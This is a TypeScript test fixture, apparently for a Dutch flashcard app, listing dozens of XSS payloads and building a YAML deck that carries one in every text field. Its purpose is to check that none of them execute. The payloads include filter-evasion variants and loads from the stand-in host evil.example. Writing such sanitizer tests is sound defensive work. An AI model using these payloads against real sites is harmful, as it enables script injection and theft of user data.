/**
 * Script-injection payloads placed in every text field of a deck. Each one, if it ever ran, would
 * set `window.__xss` or make a request to evil.example; the tests assert neither happens.
 */
export const XSS_PAYLOADS: string[] = [
  '<script>window.__xss=1</script>',
  '<script src="http://evil.example/x.js"></script>',
  '<img src=x onerror="window.__xss=1">',
  '<img src="http://evil.example/track.gif">',
  '<svg onload="window.__xss=1"></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text x="0" y="10">klik</text></a></svg>',
  '<svg><image href="http://evil.example/i.png"/></svg>',
  '<a href="javascript:window.__xss=1">klik hier</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>',
  '[klik](javascript:window.__xss=1)',
  '[data](data:text/html,<script>window.__xss=1</script>)',
  '![beeld](http://evil.example/md.png)',
  '<iframe src="http://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="http://evil.example/o.swf"></object>',
  '<embed src="http://evil.example/e.swf">',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<style>@import "http://evil.example/s.css";</style>',
  '<div style="background:url(http://evil.example/bg.png)">achtergrond</div>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example/f"><button>verstuur</button></form>',
  '<input autofocus onfocus="window.__xss=1">',
  '<details open ontoggle="window.__xss=1">x</details>',
  '<body onload="window.__xss=1">',
  '<video><source onerror="window.__xss=1"></video>',
  '<audio src="http://evil.example/a.mp3" onerror="window.__xss=1"></audio>',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<IMG SRC=JaVaScRiPt:window.__xss=1>',
  '<img src=x:alert(1) onerror=eval("window.__xss=1")>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=1&#62;',
  '<a href="jav&#x09;ascript:window.__xss=1">tab</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<template><img src=x onerror=window.__xss=1></template>',
  '{{constructor.constructor("window.__xss=1")()}}',
  '${window.__xss=1}',
  '<x onclick="window.__xss=1">klik</x>',
  '<marquee onstart="window.__xss=1">tekst</marquee>',
  '**vet<img src=x onerror=window.__xss=1>**',
  '*cursief <script>window.__xss=1</script>*',
  '<img src="//evil.example/protocol-relative.png">',
];

/** A deck whose every text field carries payloads (YAML with JSON-quoted strings). */
export function xssDeckYaml(id = 'xss-proef'): string {
  const q = (s: string) => JSON.stringify(s);
  const cards = XSS_PAYLOADS.map((payload, i) =>
    [
      `  - term: ${q(`woord${i}`)}`,
      `    article: de`,
      `    id: ${q(`kaart-${i}`)}`,
      `    definition: ${q(`Uitleg ${i}: ${payload}`)}`,
      // Braces mark the cloze gap, so the example carries the payload without them.
      `    example: ${q(`Voorbeeld ${payload.replace(/[{}]/g, '')} met een {woord${i}} erin.`)}`,
      `    plain: ${q(`eenvoudig ${payload}`)}`,
      `    alternatives: [${q(`alt ${payload}`)}]`,
      `    translations: { en: ${q(`en ${payload}`)}, fr: ${q(`fr ${payload}`)} }`,
    ].join('\n'),
  );
  return [
    `id: ${id}`,
    `title: ${q('Proef <img src=x onerror=window.__xss=1> **titel**')}`,
    `department: ${q('<script>window.__xss=1</script>Dienst')}`,
    `level: B1`,
    `description: ${q('Beschrijving <svg onload=window.__xss=1> *cursief*')}`,
    `cards:`,
    ...cards,
    '',
  ].join('\n');
}
